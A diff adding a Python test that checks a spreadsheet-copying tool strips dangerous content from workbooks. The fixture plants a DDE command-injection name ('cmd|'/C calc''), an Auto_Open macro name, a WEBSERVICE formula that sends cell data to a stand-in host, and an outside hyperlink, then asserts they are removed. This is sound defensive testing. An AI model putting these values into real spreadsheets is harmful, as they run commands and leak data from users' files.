@@ -11,8 +11,11 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 from openpyxl import Workbook, load_workbook
 from openpyxl.comments import Comment
+from openpyxl.formatting.rule import Rule
 from openpyxl.styles import Font
+from openpyxl.workbook.defined_name import DefinedName
 from openpyxl.worksheet.datavalidation import DataValidation
+from openpyxl.worksheet.hyperlink import Hyperlink
 from openpyxl.worksheet.worksheet import Worksheet
 
 from khenthuong_desktop.domain.terms import Severity
@@ -106,6 +109,30 @@ def test_the_rest_keeps_its_looks_and_values_and_nothing_runs_or_leads_elsewhere
     assert [each.sheet_view.tabSelected for each in copy] == [True, False]
     with ZipFile(target) as parts:
         assert not [name for name in parts.namelist() if "vba" in name.lower() or "externalLink" in name]
+
+
+def test_what_runs_or_leads_out_is_not_given_back_and_this_is_said(source: Path, tmp_path: Path) -> None:
+    workbook = load_workbook(source)
+    sheet = workbook["Nhân sự"]
+    for name, told in (("Auto_Open", "'Nhân sự'!$A$1"), ("cm", "cmd|'/C calc'!A0"), ("Vùng", "'Nhân sự'!$A$1:$B$2")):
+        workbook.defined_names[name] = DefinedName(name, attr_text=told)
+    sheet.conditional_formatting.add(
+        "A1:A9", Rule(type="expression", formula=['WEBSERVICE("http://out.example/?"&A1)'])
+    )
+    sheet.conditional_formatting.add("A1:A9", Rule(type="expression", formula=['A1="a|b"']))
+    sheet["B2"].hyperlink = "http://out.example"
+    sheet["B3"].hyperlink = Hyperlink(ref="B3", location="'Nhân sự'!A1")
+    workbook.save(source)
+    copy_of(source, tmp_path / "lỗi.xlsx")
+    with ZipFile(tmp_path / "lỗi.xlsx") as archive:
+        parts = b"".join(map(archive.read, archive.namelist()))
+    assert not any(words in parts for words in (b"out.example", b"cmd|'/C", b"Auto_Open", b"WEBSERVICE"))
+    copy = load_workbook(tmp_path / "lỗi.xlsx")
+    assert list(copy.defined_names) == ["Vùng"]
+    (kept,) = copy["Nhân sự"].conditional_formatting
+    assert [rule.formula for rule in kept.rules] == [['A1="a|b"']]
+    assert (copy["Nhân sự"]["B2"].hyperlink, copy["Nhân sự"]["B3"].hyperlink.location) == (None, "'Nhân sự'!A1")
+    assert "không giữ 5 chỗ" in copy[FAULTS]["A3"].value  # the fixture's choice is one, too
 
 
 def test_a_copy_put_right_is_taken_in_and_a_second_copy_marks_only_what_is_left(source: Path, tmp_path: Path) -> None:
